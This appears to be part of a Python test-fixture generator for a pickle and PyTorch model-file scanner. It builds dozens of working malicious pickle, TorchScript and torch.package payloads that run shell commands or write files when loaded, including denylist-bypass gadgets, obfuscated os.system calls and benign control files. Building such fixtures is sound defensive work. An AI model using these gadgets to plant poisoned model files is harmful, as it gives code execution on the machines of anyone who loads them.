    '3 MiB of harmless list items (a million APPENDs) before the payload')
def _(ctx):
    item = pk.integer(7) + pk.APPEND
    return (proto(2) + pk.EMPTY_LIST + item * (1 << 20) + POP + ctx.payload(0)
            + STOP)


@fx('diff-int-base-prefix-memo.pkl', '9-differential',
    ['pickle.load', 'pickle.loads', 'pickle._Unpickler'],
    "protocol-0 PUT/GET with memo keys written '01' and '1' (both 1 for "
    'both unpicklers): the module name comes back from the memo')
def _(ctx):
    return (b'Vposix\np01\n0Vsystem\np2\n0g1\ng2\n\x93' + ustr(ctx.cmd)
            + pk.TUPLE1 + REDUCE + STOP) if not ctx.benign else \
        whole(const([1]))


# ---------------------------------------------------------------------------
# Issue 10: names judged by what they do
# ---------------------------------------------------------------------------
P_ALL = ['pickle.load', 'pickle.loads', 'pickle._Unpickler']
P_T = P_ALL + ['torch.load']


def _nested(ctx, style=0):
    """Bytes of a stand-alone pickle carrying the payload (for nested loaders)."""
    return ctx.pickle(style)


def g4(mod, name):
    return sglobal(mod, name)


@fx('hof-rebuild-from-type-v2-load-from-bytes.pt', '10-higher-order', P_T,
    'torch._tensor._rebuild_from_type_v2 calls func(*args): func is the '
    'allowed nested loader torch.storage._load_from_bytes, passed as a value',
    twin=False)
def _(ctx):
    return whole(call(glob('torch._tensor', '_rebuild_from_type_v2'),
                      glob('torch.storage', '_load_from_bytes'),
                      glob('torch', 'Tensor'),
                      tup(byts(_nested(ctx))), EMPTY_DICT))


@fx('hof-rebuild-from-type-load-from-bytes.pt', '10-higher-order', P_T,
    'torch._tensor._rebuild_from_type(func, type, args, dict) calls func',
    twin=False)
def _(ctx):
    return whole(call(glob('torch._tensor', '_rebuild_from_type'),
                      glob('torch.storage', '_load_from_bytes'),
                      glob('torch', 'Tensor'),
                      tup(byts(_nested(ctx, 1))), EMPTY_DICT))


@fx('hof-rebuild-from-type-v2-collect-env-run.pt', '10-higher-order', P_T,
    '_rebuild_from_type_v2 with func = torch.utils.collect_env.run (shell)',
    twin=False)
def _(ctx):
    return whole(call(glob('torch._tensor', '_rebuild_from_type_v2'),
                      glob('torch.utils.collect_env', 'run'),
                      glob('torch', 'Tensor'), tup(ustr(ctx.cmd)), EMPTY_DICT))


@fx('hof-map-in-ordereddict.pkl', '10-higher-order', P_T,
    'collections.OrderedDict consumes map(torch.storage._load_from_bytes, '
    '[payload]): the nested loader is a value, map calls it', twin=False)
def _(ctx):
    m = call(glob('builtins', 'map'), glob('torch.storage', '_load_from_bytes'),
             const([_nested(ctx)]))
    return whole(call(glob('collections', 'OrderedDict'),
                      call(glob('builtins', 'zip'), const(['k']), m)))


@fx('hof-map-in-torch-size.pt', '10-higher-order', P_T,
    'torch.Size(iterable) drains map(torch.utils.collect_env.run, [cmd])',
    twin=False)
def _(ctx):
    m = call(glob('builtins', 'map'), glob('torch.utils.collect_env', 'run'),
             const([ctx.cmd]))
    return whole(call(glob('builtins', 'list'), m))


@fx('hof-functools-partial-called.pkl', '10-higher-order', P_T,
    'functools.partial(nested loader, payload) built, then called by a '
    'REDUCE whose callable is a stack value, not a global', twin=False)
def _(ctx):
    part = call(glob('functools', 'partial'),
                glob('torch.storage', '_load_from_bytes'), byts(_nested(ctx, 2)))
    return whole(part + pk.EMPTY_TUPLE + REDUCE)


@fx('hof-copyreg-reconstructor-file-handler.pkl', '10-higher-order', P_ALL,
    'copyreg._reconstructor(cls, base, state) calls base.__init__(obj, '
    'state): base = logging.FileHandler creates the file named by state',
    twin=False)
def _(ctx):
    return whole(call(glob('copyreg', '_reconstructor'),
                      glob('logging', 'FileHandler'),
                      glob('logging', 'FileHandler'), ustr(ctx.marker)))


@fx('hof-collect-env-run-and-read-all.pkl', '10-higher-order', P_ALL,
    'torch.utils.collect_env.run_and_read_all(run_lambda, cmd) calls '
    'run_lambda(cmd)', twin=False)
def _(ctx):
    return whole(call(glob('torch.utils.collect_env', 'run_and_read_all'),
                      glob('torch.utils.collect_env', 'run'), ustr(ctx.cmd)))


@fx('hof-pandas-common-pipe.pkl', '10-higher-order', P_ALL,
    'pandas.core.common.pipe(obj, func, *args) calls func(obj, *args)',
    twin=False)
def _(ctx):
    return whole(call(glob('pandas.core.common', 'pipe'), ustr(ctx.marker),
                      glob('logging', 'FileHandler')))


@fx('hof-pandas-apply-if-callable.pkl', '10-higher-order', P_ALL,
    'pandas.core.common.apply_if_callable(f, obj) calls f(obj)', twin=False)
def _(ctx):
    return whole(call(glob('pandas.core.common', 'apply_if_callable'),
                      glob('torch.utils.collect_env', 'run'), ustr(ctx.cmd)))


# --- nested loaders as values / unlisted nested loaders ----------------------
@fx('nested-loader-datapipes-basichandlers.pkl', '10-nested-loader', P_ALL,
    "torch.utils.data.datapipes.utils.decoder.basichandlers('pickle', b) "
    'is pickle.loads(b)', twin=False)
def _(ctx):
    return whole(call(glob('torch.utils.data.datapipes.utils.decoder',
                           'basichandlers'), ustr('pickle'), byts(_nested(ctx))))


@fx('nested-loader-lib2to3-grammar-loads.pkl', '10-nested-loader', P_ALL,
    'lib2to3.pgen2.grammar.Grammar.loads(self, pkl) unpickles pkl',
    twin=False)
def _(ctx):
    g = call(glob('lib2to3.pgen2.grammar', 'Grammar'))
    return whole(call(sglobal('lib2to3.pgen2.grammar', 'Grammar.loads'), g,
                      byts(_nested(ctx, 1))), 4)


@fx('nested-loader-joblib-unpickle.pkl', '10-nested-loader', [],
    'joblib.numpy_pickle_compat.load_compatibility(filename): a nested '
    'loader of a file by name, unlisted', twin=False)
def _(ctx):
    return whole(call(glob('joblib.numpy_pickle_compat', 'load_compatibility'),
                      ustr(ctx.marker + '.pkl')))


@fx('nested-loader-pickle-loads-as-value.pkl', '10-nested-loader', P_T,
    'pickle.loads passed as func to _rebuild_from_type_v2', twin=False)
def _(ctx):
    return whole(call(glob('torch._tensor', '_rebuild_from_type_v2'),
                      glob('_pickle', 'loads'), glob('torch', 'Tensor'),
                      tup(byts(_nested(ctx))), EMPTY_DICT))


@fx('nested-loader-in-dict-value.pkl', '10-nested-loader', [],
    'torch.storage._load_from_bytes stored as a dict value (not called): '
    'a later stage calls it; a reference to a nested loader that is not a '
    'followable call is malicious (issue 10, item 2)', twin=False)
def _(ctx):
    return whole(pk.EMPTY_DICT + ustr('hook')
                 + glob('torch.storage', '_load_from_bytes') + pk.SETITEM)


@fx('nested-loader-marshal-as-value.pkl', '10-nested-loader', [],
    'marshal.loads passed as func to _rebuild_from_type_v2 (returns a code '
    'object a later stage runs)', twin=False)
def _(ctx):
    return whole(call(glob('torch._tensor', '_rebuild_from_type_v2'),
                      glob('marshal', 'loads'), glob('torch', 'Tensor'),
                      tup(byts(b'\xe3' + b'\0' * 16)), EMPTY_DICT))


@fx('nested-loader-numpy-load-as-value.pkl', '10-nested-loader', [],
    'numpy.load passed as the default_factory of a defaultdict: any later '
    'missing-key lookup loads (and unpickles) the file named by the key',
    twin=False)
def _(ctx):
    return whole(call(glob('collections', 'defaultdict'), glob('numpy', 'load')))


@fx('dotted-torch-tensor-apply.pt', '10-dotted-method', [],
    'torch.Tensor.apply_(t, f) calls f on every element: a method of an '
    'allowed class that calls its argument', twin=False)
def _(ctx):
    t = call(glob('torch._utils', '_rebuild_tensor_v2'),
             call(glob('torch', 'FloatStorage')), pk.integer(0), const(()),
             const(()), pk.NEWFALSE, call(glob('collections', 'OrderedDict')))
    return whole(call(sglobal('torch', 'Tensor.apply_'), t,
                      glob('torch.utils.collect_env', 'run')), 4)


# --- stdlib / ML callables that are not on the denylist ---------------------
def _simple(name, mod, fn, args, note, loaders=P_ALL, protocol=2, dotted=False):
    def b(ctx):
        a = [x(ctx) if callable(x) else const(x) for x in args]
        g = sglobal(mod, fn) if dotted else glob(mod, fn)
        return whole(call(g, *a), 4 if dotted else protocol)
    fx(name, '10-unlisted-gadget', loaders, note, twin=False)(b)


_simple('gadget-uuid-get-command-stdout.pkl', 'uuid', '_get_command_stdout',
        [lambda c: ustr('touch'), lambda c: ustr(c.marker)],
        'uuid._get_command_stdout(cmd, *args) runs cmd with subprocess')
_simple('gadget-uuid-find-mac-near-keyword.pkl', 'uuid', '_find_mac_near_keyword',
        [lambda c: ustr('touch'), lambda c: ustr(c.marker),
         lambda c: const([b'x']), lambda c: glob('builtins', 'abs')],
        'uuid._find_mac_near_keyword(command, args, ...) runs command')
_simple('gadget-torch-collect-env-run.pkl', 'torch.utils.collect_env', 'run',
        [lambda c: ustr(c.cmd)],
        'torch.utils.collect_env.run(cmd): Popen(cmd, shell=True)')
_simple('gadget-torch-bottleneck-run-cprofile.pkl',
        'torch.utils.bottleneck.__main__', 'run_cprofile',
        [lambda c: ustr(c.code), lambda c: EMPTY_DICT],
        'torch.utils.bottleneck.__main__.run_cprofile(code, globs) execs code')
_simple('gadget-typing-forwardref-evaluate.pkl', 'typing', 'ForwardRef._evaluate',
        [lambda c: call(glob('typing', 'ForwardRef'),
                        ustr('__import__("os").system(%r)' % c.cmd)),
         lambda c: EMPTY_DICT, lambda c: EMPTY_DICT,
         lambda c: call(glob('builtins', 'frozenset'))],
        'typing.ForwardRef(code) compiles, ForwardRef._evaluate evals it',
        dotted=True)
_simple('gadget-dataclasses-create-fn.pkl', 'dataclasses', '_create_fn',
        [lambda c: ustr('f'),
         lambda c: const(['x=__import__("os").system(%r)' % c.cmd]),
         lambda c: const(['pass'])],
        'dataclasses._create_fn(name, args, body) execs a def whose default '
        'argument is the payload')
_simple('gadget-wave-open-truncate.pkl', 'wave', 'open',
        [lambda c: ustr(c.marker), lambda c: ustr('wb')],
        "wave.open(path, 'wb') creates/truncates path")
_simple('gadget-aifc-open-truncate.pkl', 'aifc', 'open',
        [lambda c: ustr(c.marker), lambda c: ustr('wb')],
        "aifc.open(path, 'wb') creates/truncates path")
_simple('gadget-sunau-open-truncate.pkl', 'sunau', 'open',
        [lambda c: ustr(c.marker), lambda c: ustr('wb')],
        "sunau.open(path, 'wb') creates/truncates path")
_simple('gadget-logging-filehandler.pkl', 'logging', 'FileHandler',
        [lambda c: ustr(c.marker)],
        'logging.FileHandler(path) opens path for append (creates it)')
_simple('gadget-logging-basicconfig.pkl', 'logging', 'basicConfig', [],
        'logging.basicConfig(filename=...) creates the file (kwargs via '
        'a dict argument is impossible, so this one is called bare and '
        'only proves the name is reachable)', loaders=[])
_simple('gadget-mailbox-mbox-create.pkl', 'mailbox', 'mbox',
        [lambda c: ustr(c.marker)],
        'mailbox.mbox(path) creates path (create=True by default)')
_simple('gadget-torch-save-writes.pkl', 'torch', 'save',
        [lambda c: const([1]), lambda c: ustr(c.marker)],
        'torch.save(obj, path) writes a file; not on the denylist')
_simple('gadget-torch-serialization-save.pkl', 'torch.serialization', 'save',
        [lambda c: const([1]), lambda c: ustr(c.marker)],
        'torch.serialization.save(obj, path) writes a file')
_simple('gadget-joblib-dump-writes.pkl', 'joblib', 'dump',
        [lambda c: const([1]), lambda c: ustr(c.marker)],
        'joblib.dump(obj, path) writes a file')
_simple('gadget-numpy-savetxt-alias.pkl', 'numpy', 'savetxt',
        [lambda c: ustr(c.marker), lambda c: const([1])],
        'numpy.savetxt is numpy.lib.npyio.savetxt under a re-exported name')
_simple('gadget-numpy-open-memmap.pkl', 'numpy.lib.format', 'open_memmap',
        [lambda c: ustr(c.marker), lambda c: ustr('w+'),
         lambda c: glob('builtins', 'float'), lambda c: const((1,))],
        "numpy.lib.format.open_memmap(path, 'w+', ...) creates the file")
_simple('gadget-sklearn-dump-svmlight.pkl', 'sklearn.datasets', 'dump_svmlight_file',
        [lambda c: const([[1]]), lambda c: const([1]), lambda c: ustr(c.marker)],
        'sklearn.datasets.dump_svmlight_file(X, y, f) writes f')
_simple('gadget-sklearn-assert-run-python-script.pkl', 'sklearn.utils._testing',
        'assert_run_python_script', [lambda c: ustr(c.code)],
        'sklearn.utils._testing.assert_run_python_script(source) writes a '
        'script and runs it in a subprocess')
_simple('gadget-scipy-io-savemat.pkl', 'scipy.io', 'savemat',
        [lambda c: ustr(c.marker), lambda c: EMPTY_DICT],
        'scipy.io.savemat(path, {}) writes a file')
_simple('gadget-torch-file-baton.pkl', 'torch.utils.file_baton', 'FileBaton.try_acquire',
        [lambda c: call(glob('torch.utils.file_baton', 'FileBaton'), ustr(c.marker))],
        'torch.utils.file_baton.FileBaton.try_acquire creates its lock file',
        dotted=True)
_simple('gadget-torch-model-zoo-alias.pkl', 'torch.utils.model_zoo', 'load_url',
        [lambda c: ustr('file://' + c.marker + '.src'),
         lambda c: ustr(c.dir)], 'torch.utils.model_zoo.load_url is '
        'torch.hub.load_state_dict_from_url: downloads and torch.loads',
        loaders=[])
_simple('gadget-warnings-getcategory-import.pkl', 'warnings', '_getcategory',
        [lambda c: ustr('antigravity.x')],
        'warnings._getcategory(name) imports any module by name', loaders=[])


# --- methods through dotted paths on allowed classes -------------------------
def _dotted(name, mod, path, selfexpr, args, note, loaders=P_ALL):
    def b(ctx):
        a = [x(ctx) if callable(x) else const(x) for x in args]
        return whole(call(sglobal(mod, path), selfexpr(ctx), *a), 4)
    fx(name, '10-dotted-method', loaders, note, twin=False)(b)


def _path(c):
    return call(glob('pathlib', 'PosixPath'), ustr(c.marker))


_dotted('dotted-pathlib-path-write-text.pkl', 'pathlib', 'Path.write_text', _path,
        [lambda c: ustr('x')], 'pathlib.Path is allowed; Path.write_text writes')
_dotted('dotted-pathlib-posixpath-touch.pkl', 'pathlib', 'PosixPath.touch', _path,
        [], 'PosixPath.touch creates the file')
_dotted('dotted-pathlib-write-bytes.pkl', 'pathlib', 'PurePosixPath.__class__', _path,
        [], 'a dunder on an allowed class (type of PurePosixPath)', loaders=[])
_dotted('dotted-numpy-ndarray-tofile.pkl', 'numpy', 'ndarray.tofile',
        lambda c: call(glob('numpy.core.multiarray', '_reconstruct'),
                       glob('numpy', 'ndarray'), const((0,)), const(b'b')),
        [lambda c: ustr(c.marker)], 'numpy.ndarray.tofile(arr, path) writes a file')
_dotted('dotted-numpy-ndarray-dump.pkl', 'numpy', 'ndarray.dump',
        lambda c: call(glob('numpy.core.multiarray', '_reconstruct'),
                       glob('numpy', 'ndarray'), const((0,)), const(b'b')),
        [lambda c: ustr(c.marker)], 'numpy.ndarray.dump(arr, path) pickles to a file')
_dotted('dotted-torch-floatstorage-from-file.pt', 'torch', 'FloatStorage.from_file',
        lambda c: ustr(c.marker), [True, 4],
        'torch.FloatStorage.from_file(path, shared=True, n) creates path',
        loaders=P_T)
_dotted('dotted-torch-untypedstorage-from-file.pt', 'torch',
        'UntypedStorage.from_file', lambda c: ustr(c.marker), [True, 4],
        'torch.UntypedStorage.from_file(path, True, n) creates path', loaders=P_T)
_dotted('dotted-pandas-dataframe-to-pickle.pkl', 'pandas.core.frame',
        'DataFrame.to_pickle', lambda c: call(glob('pandas.core.frame', 'DataFrame')),
        [lambda c: ustr(c.marker)], 'DataFrame.to_pickle(df, path) writes')
_dotted('dotted-pandas-dataframe-to-csv.pkl', 'pandas.core.frame',
        'DataFrame.to_csv', lambda c: call(glob('pandas.core.frame', 'DataFrame')),
        [lambda c: ustr(c.marker)], 'DataFrame.to_csv(df, path) writes')
_dotted('dotted-ordereddict-fromkeys-map.pkl', 'collections', 'OrderedDict.fromkeys',
        lambda c: call(glob('builtins', 'map'), glob('torch.utils.collect_env', 'run'),
                       const([c.cmd])),
        [], 'OrderedDict.fromkeys drains a map that runs commands')
_dotted('dotted-builtins-object-getattribute.pkl', 'builtins',
        'object.__getattribute__', lambda c: call(glob('pathlib', 'PosixPath'),
                                                  ustr(c.marker)),
        [lambda c: ustr('touch')],
        'builtins + object.__getattribute__ reaches any attribute: here '
        'PosixPath(marker).touch, then called', loaders=[])


@fx('dotted-getattribute-then-call.pkl', '10-dotted-method', P_ALL,
    'object.__getattribute__(path, "touch") returns a bound method; a '
    'REDUCE on that stack value calls it', twin=False)
def _(ctx):
    m = call(sglobal('builtins', 'object.__getattribute__'), _path(ctx), ustr('touch'))
    return whole(m + pk.EMPTY_TUPLE + REDUCE, 4)


@fx('dotted-module-escape-pathlib-os.pkl', '10-dotted-method', P_ALL,
    "pathlib + 'os.system' is os.system", twin=False)
def _(ctx):
    return whole(call(sglobal('pathlib', 'os.system'), ustr(ctx.cmd)), 4)


@fx('dotted-module-escape-collections-sys.pkl', '10-dotted-method', P_ALL,
    "collections + '_sys.modules' reaches sys.modules (then os)", twin=False)
def _(ctx):
    mods = sglobal('collections', '_sys.modules')
    osm = call(sglobal('builtins', 'dict.get'), mods, ustr('os'))
    sysfn = call(sglobal('builtins', 'object.__getattribute__'), osm, ustr('system'))
    return whole(sysfn + tup(ustr(ctx.cmd)) + REDUCE, 4)


# --- BUILD / setattr writing dunders ---------------------------------------
@fx('state-annotations-get-type-hints.pkl', '10-dunder-state', P_ALL,
    'types.SimpleNamespace() + BUILD {"__annotations__": {"x": code}}, '
    'then typing.get_type_hints(ns) evals the annotation', twin=False)
def _(ctx):
    ns = build(call(glob('types', 'SimpleNamespace')),
               const({'__annotations__': {'x': '__import__("os").system(%r)' % ctx.cmd}}))
    return whole(call(glob('typing', 'get_type_hints'), ns))


@fx('state-dunder-class-swap.pkl', '10-dunder-state', [],
    'BUILD state that writes __class__ through the slot-state dict (the '
    'second element of a (dict, slots) state goes through setattr)',
    twin=False)
def _(ctx):
    obj = call(glob('argparse', 'Namespace'))
    st = tup(pk.NONE, pk.EMPTY_DICT + ustr('__class__')
             + glob('logging', 'FileHandler') + pk.SETITEM)
    return whole(build(obj, st))


@fx('state-dunder-reduce-ex.pkl', '10-dunder-state', [],
    'BUILD writes __reduce_ex__ and __setstate__ into an allowed object: '
    'the next pickle.dumps of the checkpoint runs them (Sleepy Pickle shape)',
    twin=False)
def _(ctx):
    obj = call(glob('argparse', 'Namespace'))
    st = const({'__reduce_ex__': 1, '__setstate__': 2, '__dict__': {}})
    return whole(build(obj, st))


@fx('state-dunder-globals-of-function.pkl', '10-dunder-state', [],
    'BUILD of (None, {"__globals__"...}) on a logger: slot-state writes '
    'go through setattr; dunder targets are hostile', twin=False)
def _(ctx):
    obj = call(glob('logging', 'getLogger'), ustr('x'))
    st = tup(pk.NONE, const({'__getattr__': 'x', '__init_subclass__': 'y'}))
    return whole(build(obj, st))


@fx('state-patch-allowed-class-setstate.pkl', '10-dunder-state', P_ALL,
    'BUILD (None, {"__setstate__": logging.FileHandler}) on the allowed '
    'class argparse.Namespace patches the class (setattr through the slot '
    'state); the next BUILD on a Namespace calls FileHandler(state)',
    twin=False, isolate=True)
def _(ctx):
    patch = build(glob('argparse', 'Namespace'),
                  tup(pk.NONE, pk.EMPTY_DICT + ustr('__setstate__')
                      + glob('logging', 'FileHandler') + pk.SETITEM)) + POP
    use = build(call(glob('argparse', 'Namespace')), ustr(ctx.marker))
    return whole(patch + use)


@fx('state-patch-ordereddict-reduce-ex.pkl', '10-dunder-state', [],
    'BUILD (None, {"__reduce_ex__": ...}) on collections.OrderedDict: '
    'every later pickle.dumps of a state dict runs the patched reducer',
    twin=False)
def _(ctx):
    return whole(build(glob('collections', 'OrderedDict'),
                       tup(pk.NONE, pk.EMPTY_DICT + ustr('__reduce_ex__')
                           + glob('torch.storage', '_load_from_bytes') + pk.SETITEM)))


# --- allowed callables with argument shapes their writers never produce ------
@fx('oddargs-ordereddict-code-string.pkl', '10-odd-arguments', [],
    'collections.OrderedDict(code string): on a stock interpreter it '
    'raises, which is exactly what a second stage that replaced OrderedDict '
    'expects; no writer ever emits it', twin=False)
def _(ctx):
    return whole(call(glob('collections', 'OrderedDict'),
                      ustr('__import__("os").system(%r)' % ctx.cmd)))


@fx('oddargs-dict-code-string.pkl', '10-odd-arguments', [],
    'builtins.dict(code string)', twin=False)
def _(ctx):
    return whole(call(glob('builtins', 'dict'), ustr('import os; os.system("id")')))


@fx('oddargs-rebuild-tensor-v2-strings.pt', '10-odd-arguments', [],
    'torch._utils._rebuild_tensor_v2 called with strings where a storage '
    'and shapes belong', twin=False)
def _(ctx):
    return whole(call(glob('torch._utils', '_rebuild_tensor_v2'),
                      ustr('os'), ustr('system'), ustr(ctx.cmd), const(()),
                      pk.NEWFALSE, call(glob('collections', 'OrderedDict'))))


@fx('oddargs-codecs-encode-callable.pkl', '10-odd-arguments', [],
    '_codecs.encode(obj, encoding) with a non-string object and an '
    'unusual codec name', twin=False)
def _(ctx):
    return whole(call(glob('_codecs', 'encode'), glob('torch', 'Tensor'),
                      ustr('rot13')))


@fx('oddargs-re-compile-callable.pkl', '10-odd-arguments', [],
    're._compile with a callable where the pattern belongs', twin=False)
def _(ctx):
    return whole(call(glob('re', '_compile'), glob('builtins', 'exec'), pk.integer(0)))


@fx('oddargs-numpy-reconstruct-subtype.pkl', '10-odd-arguments', [],
    'numpy.core.multiarray._reconstruct with a non-ndarray subtype', twin=False)
def _(ctx):
    return whole(call(glob('numpy.core.multiarray', '_reconstruct'),
                      glob('logging', 'FileHandler'), const((0,)), const(b'b')))


# --- TorchScript and torch.package -------------------------------------------
TS_DATA = (b'\x80\x02c__torch__\nM\nq\x00)\x81ctorch._utils\n_rebuild_tensor_v2\nq\x01'
           b'((X\x07\x00\x00\x00storageq\x02ctorch\nFloatStorage\nq\x03X\x01\x00\x00'
           b'\x000q\x04X\x03\x00\x00\x00cpuq\x05K\x02tQq\x06K\x00(K\x02t(K\x01t\x89cco'
           b'llections\nOrderedDict\nq\x07)RtRq\x08\x88\x86q\tbq\n.')

TS_HEAD = '''class M(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  _is_full_backward_hook : Optional[bool]
  w : Tensor
  def forward(self: __torch__.M,
    x: Tensor) -> Tensor:
    w = self.w
    return torch.add(x, w)
  def __getstate__(self: __torch__.M) -> Tuple[Tensor, bool]:
    w = self.w
    training = self.training
    return (w, training)
  def __setstate__(self: __torch__.M,
    state: Tuple[Tensor, bool]) -> NoneType:
%s    self.w = %s
    self.training = (state)[1]
    return None
'''


def _ts(ctx, stmt, top='m', use='(state)[0]'):
    # The call's result feeds self.w: TorchScript drops unused results.
    line = '' if ctx.benign else stmt % {'m': ctx.marker}
    use = '(state)[0]' if ctx.benign else use
    return arc.zip_bytes([('%s/data/0' % top, b'\0' * 8),
                          ('%s/data.pkl' % top, TS_DATA),
                          ('%s/code/__torch__.py' % top, (TS_HEAD % (line, use)).encode()),
                          ('%s/constants.pkl' % top, b'\x80\x02).'),
                          ('%s/version' % top, b'3\n')])


@fx('torchscript-setstate-from-file.pt', '10-torchscript',
    ['torch.jit.load', 'torch.load', 'torch.load.weights_only'],
    'hand-written TorchScript archive: __setstate__ calls torch.from_file('
    'path, shared=True) which creates the file; torch.load hands the archive '
    'to torch.jit.load, even with weights_only=True (torch 1.13)')
def _(ctx):
    return _ts(ctx, '    _0 = torch.from_file("%(m)s", True, 4)\n',
               use='torch.add((state)[0], torch.sum(_0))')


@fx('torchscript-setstate-save.pt', '10-torchscript', ['torch.jit.load'],
    '__setstate__ calls torch.save(obj, path) (aten::save writes a file)')
def _(ctx):
    return _ts(ctx, '    torch.save((state)[0], "%(m)s")\n', top='archive')


@fx('torchscript-setstate-ops-load-library.pt', '10-torchscript', [],
    '__setstate__ calls torch.ops.load_library(path): loads native code '
    '(not scriptable on every version; the operator name is what counts)')
def _(ctx):
    return _ts(ctx, '    _1 = ops.load_library("%(m)s.so")\n')


def _tpkg(ctx, src):
    return arc.zip_bytes([
        ('p/res/obj.pkl', b'\x80\x03}q\x00X\x01\x00\x00\x00aq\x01cevilmod\nf\nq\x02s.'),
        ('p/evilmod.py', src.encode()),
        ('p/.data/extern_modules', b'os\n'),
        ('p/.data/python_version', b'3.11.2'),
        ('p/.data/version', b'6\n')])


@fx('torch-package-imports-packaged-source.pt', '10-torch-package',
    ['torch.package:res:obj.pkl'],
    'torch.package archive: obj.pkl imports evilmod, whose source ships in '
    'the archive and runs at import')
def _(ctx):
    return _tpkg(ctx, 'import os\nos.system(%r)\ndef f(): return 1\n' % ctx.cmd
                 if not ctx.benign else 'def f(): return 1\n')


@fx('torch-package-packaged-package-init.pt', '10-torch-package',
    ['torch.package:res:obj.pkl'],
    'torch.package whose pickle names evilpkg.sub.K: evilpkg/__init__.py '
    '(shipped as source) runs at import', twin=True)
def _(ctx):
    src = 'def f(): return 1\n'
    init = src if ctx.benign else 'import os\nos.system(%r)\n' % ctx.cmd
    return arc.zip_bytes([
        ('p/res/obj.pkl', b'\x80\x03}q\x00X\x01\x00\x00\x00aq\x01cevilpkg.sub\nf\nq\x02s.'),
        ('p/evilpkg/__init__.py', init.encode()),
        ('p/evilpkg/sub.py', src.encode()),
        ('p/.data/extern_modules', b'os\n'),
        ('p/.data/python_version', b'3.11.2'),
        ('p/.data/version', b'6\n')])


@fx('torch-package-harmless-looking-source.pt', '10-torch-package',
    ['torch.package:res:obj.pkl'],
    'torch.package whose packaged source hides the call behind getattr '
    'and a computed name')
def _(ctx):
    # The twin keeps the definitions only (it used to run the command too).
    return _tpkg(ctx, 'm = __import__("o" + "s")\ngetattr(m, "sys" + "tem")(%r)\n'
                 'def f(): return 1\n' % ctx.cmd if not ctx.benign
                 else 'def f(): return 1\n')


# ---------------------------------------------------------------------------
# Benign pinning (issue 10): must not be malicious
# ---------------------------------------------------------------------------
def _enum_311(p, mod, cls, name):
    """An enum member exactly as CPython 3.11.2 pickles it:
    builtins.getattr(EnumClass, 'NAME'), at protocol p."""
    if p == 0:
        return (b'c__builtin__\ngetattr\np0\n(c' + mod.encode() + b'\n' + cls.encode()
                + b'\np1\nV' + name.encode() + b'\np2\ntp3\nRp4\n.')
    if p == 1:
        return (b'c__builtin__\ngetattr\nq\x00(c' + mod.encode() + b'\n' + cls.encode()
                + b'\nq\x01' + pk.binunicode(name) + b'q\x02tq\x03Rq\x04.')
    if p in (2, 3):
        b = b'__builtin__' if p == 2 else b'builtins'
        return (proto(p) + b'c' + b + b'\ngetattr\nq\x00c' + mod.encode() + b'\n'
                + cls.encode() + b'\nq\x01' + pk.binunicode(name) + b'q\x02\x86q\x03Rq\x04.')
    body = (ustr('builtins') + pk.MEMOIZE + ustr('getattr') + pk.MEMOIZE + pk.STACK_GLOBAL
            + pk.MEMOIZE + ustr(mod) + pk.MEMOIZE + ustr(cls) + pk.MEMOIZE
            + pk.STACK_GLOBAL + pk.MEMOIZE + ustr(name) + pk.MEMOIZE + pk.TUPLE2
            + pk.MEMOIZE + REDUCE + pk.MEMOIZE + STOP)
    return proto(p) + pk.frame(body)


for _p in range(6):
    for _mod, _cls, _nm in (('re', 'RegexFlag', 'IGNORECASE'),
                            ('transformers.trainer_utils', 'IntervalStrategy', 'STEPS'),
                            ('transformers.training_args', 'OptimizerNames', 'ADAMW_TORCH')):
        def _mke(p, mod, cls, nm):
            def b(ctx):
                return _enum_311(p, mod, cls, nm)
            return b
        fx('benign-enum-%s-p%d.pkl' % (_cls.lower(), _p), '10-benign-pinning',
           [], 'enum member as 3.11.2 pickles it (getattr form), protocol %d' % _p,
           twin=False, verdict='benign')(_mke(_p, _mod, _cls, _nm))


def _zoneinfo(p):
    import datetime
    import pickle
    import zoneinfo
    return pickle.dumps(datetime.datetime(2024, 1, 1, tzinfo=zoneinfo.ZoneInfo('UTC')),
                        protocol=p)


for _p in range(6):
    fx('benign-zoneinfo-datetime-p%d.pkl' % _p, '10-benign-pinning', [],
       'datetime with a ZoneInfo tz (getattr(ZoneInfo, "_unpickle")), p%d' % _p,
       twin=False, verdict='benign')((lambda p: lambda ctx: _zoneinfo(p))(_p))


@fx('benign-scheduler-bound-method.pt', '10-benign-pinning', [],
    'OneCycleLR state dict as torch 1.13 pickles it: anneal_func is the '
    'bound method getattr(<OneCycleLR>, "_annealing_cos")', twin=False,
    verdict='benign')
def _(ctx):
    cls = glob('torch.optim.lr_scheduler', 'OneCycleLR')
    inst = build(cls + pk.EMPTY_TUPLE + pk.NEWOBJ,
                 const({'total_steps': 10, 'last_epoch': 0}))
    bm = call(glob('builtins', 'getattr'), inst, ustr('_annealing_cos'))
    sd = pk.EMPTY_DICT + MARK + ustr('total_steps') + pk.integer(10) \
        + ustr('anneal_func') + bm + ustr('last_epoch') + pk.integer(3) \
        + pk.SETITEMS
    return whole(sd)


@fx('benign-legacy-full-model.pt', '10-benign-pinning', [],
    'legacy torch.save(model) stream: the data pickle names the module '
    'class through a persistent id ("module", cls, file, source)',
    twin=False, verdict='benign')
def _(ctx):
    magic = whole(b'\x8a\x0a' + (0x1950a86a20f9469cfc6c).to_bytes(10, 'little'))
    ver = whole(pk.integer(1001))
    info = whole(const({'protocol_version': 1001, 'little_endian': True,
                        'type_sizes': {'short': 2, 'int': 4, 'long': 4}}))
    pid = tup(ustr('module'), glob('torch.nn.modules.linear', 'Linear'),
              ustr('/usr/lib/python3/dist-packages/torch/nn/modules/linear.py'),
              ustr('class Linear(Module): pass'))
    data = whole(pid + b'Q' + pk.POP + glob('torch.nn.modules.linear', 'Linear')
                 + pk.EMPTY_TUPLE + pk.NEWOBJ + const({'training': True}) + pk.BUILD)
    return magic + ver + info + data + whole(const([]))


def _real_torch(kind):
    try:
        import torch
    except ImportError:
        return None
    buf = io.BytesIO()
    torch.manual_seed(0)
    if kind == 'model':
        torch.save(torch.nn.Linear(2, 2), buf, _use_new_zipfile_serialization=False)
    elif kind == 'sched':
        m = torch.nn.Linear(2, 2)
        opt = torch.optim.SGD(m.parameters(), lr=0.1)
        # OneCycleLR's state holds a bound method (anneal_func).
        s = torch.optim.lr_scheduler.OneCycleLR(opt, 0.1, total_steps=10)
        torch.save({'opt': opt.state_dict(), 'sched': s.state_dict()}, buf)
    return buf.getvalue()


fx('benign-real-legacy-full-model.pt', '10-benign-pinning', [],
   'real torch.save(nn.Linear) in the legacy format (written only when '
   'python3-torch is installed)', twin=False, verdict='benign',
   needs=['torch'])(lambda ctx: _real_torch('model'))
